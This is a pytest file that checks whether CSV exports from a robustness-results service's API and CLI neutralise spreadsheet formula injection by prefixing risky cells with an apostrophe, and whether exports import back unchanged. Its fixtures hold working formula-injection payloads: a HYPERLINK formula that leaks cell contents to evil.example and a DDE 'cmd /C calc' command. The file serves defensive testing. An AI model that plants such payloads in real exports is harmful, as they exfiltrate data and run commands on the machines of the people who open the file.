"""CSV exports are safe to open in a spreadsheet: a text cell starting with `=`, `+`, `-`, `@`, tab or CR is written
with a leading `'` (OWASP's rule), in the API's `GET /results?format=csv` and the CLI's `results --format csv` alike;
numbers (-0.5 too) stay numbers, and an exported file imports back to the same texts."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from testkit.cli import run_cli

from db.engine import make_engine, session_factory, upgrade
from db.results import query_results
from service.csv_cells import defuse, read_csv_rows, undefuse
from service.exports import render_csv
from service.settings import Settings

NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ARCH = "=cmd|' /C calc'!A0"
ROW = {"arch": ARCH, "method": "+SUM(1+1)", "dataset": "@SUM(A1:A9)", "norm": "-2+3", "eps": 0.03,
       "checkpoint": "best", "attack": "pgd20", "robust_acc": 0.5, "clean_loss_test": -0.5, "params": 1000}


@pytest.fixture
def db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'rg.db'}"
    upgrade(make_engine(url))
    return url


@pytest.fixture
def client(db: str, tmp_path: Path) -> Iterator[TestClient]:
    from testkit.api_client import api_client

    with api_client(Settings(database_url=db, storage_path=str(tmp_path), published_dir=None)) as c:
        r = c.post("/api/v1/sweeps/import", json={"name": NAME, "source": "@paper", "rows": [ROW]})
        assert r.status_code == 201, r.text
        yield c


def _cells(text: str) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 1
    return rows[0]


def _assert_defused(cells: dict[str, str]) -> None:
    assert cells["sweep"] == "'" + NAME
    assert (cells["arch"], cells["method"], cells["dataset"], cells["norm"]) == (
        "'" + ARCH, "'+SUM(1+1)", "'@SUM(A1:A9)", "'-2+3")
    assert (cells["clean_loss_test"], cells["robust_acc"], cells["params"], cells["eps"]) == ("-0.5", "0.5", "1000",
                                                                                               "0.03")
    assert (cells["attack"], cells["checkpoint"], cells["status"]) == ("pgd20", "best", "completed")


def test_api_csv_export_defuses_formula_cells(client: TestClient) -> None:
    r = client.get("/api/v1/results", params={"format": "csv"})
    assert r.status_code == 200
    _assert_defused(_cells(r.text))
    assert client.get("/api/v1/results").json()[0]["arch"] == ARCH  # JSON is data, not a spreadsheet: unchanged


def test_cli_csv_export_defuses_formula_cells_and_imports_back(client: TestClient, db: str, tmp_path: Path) -> None:
    out = run_cli("results", "--format", "csv", "--database-url", db)
    assert out.returncode == 0, out.stderr
    assert _cells(out.stdout) == _cells(client.get("/api/v1/results", params={"format": "csv"}).text)
    _assert_defused(_cells(out.stdout))
    path = tmp_path / "export.csv"
    assert run_cli("results", "--format", "csv", "--out", str(path), "--database-url", db).returncode == 0
    back = run_cli("results", "import", str(path), "--sweep", "back", "--database-url", db)
    assert back.returncode == 0, back.stderr
    with session_factory(make_engine(db))() as s:
        (row,) = query_results(s, filters={"sweep": "back"})
    assert {k: row[k] for k in ("arch", "method", "dataset", "norm", "clean_loss_test", "params")} == {
        "arch": ARCH, "method": "+SUM(1+1)", "dataset": "@SUM(A1:A9)", "norm": "-2+3", "clean_loss_test": -0.5,
        "params": 1000}


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("'=1", "''=1"), ("''@x", "'''@x"), ("-0.5", "-0.5"), ("+3e8", "+3e8"), ("'plain", "'plain"), ("a=b", "a=b"),
    ("", ""), ("-inf", "'-inf"),
])
def test_text_cells_defuse_and_undefuse_exactly(text: str, cell: str) -> None:
    assert defuse(text) == cell and undefuse(cell) == text


def test_render_csv_touches_text_only() -> None:
    rows: list[dict[str, Any]] = [{"sweep": "\r=x", "trial": 1, "arch": "\tcmd", "lam": -0.5, "eps": 0.1,
                                   "seed": -3, "error": "-not a number", "emp_lipschitz_blocks": [-1.0, 2.0]}]
    text = render_csv(rows)
    (cells,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert (cells["sweep"], cells["arch"], cells["error"]) == ("'\r=x", "'\tcmd", "'-not a number")
    assert (cells["lam"], cells["seed"], cells["trial"], cells["emp_lipschitz_blocks"]) == ("-0.5", "-3", "1",
                                                                                            "[-1.0, 2.0]")
    (back,) = read_csv_rows(text.encode())
    assert (back["sweep"], back["arch"], back["error"], back["lam"]) == ("\r=x", "\tcmd", "-not a number", "-0.5")
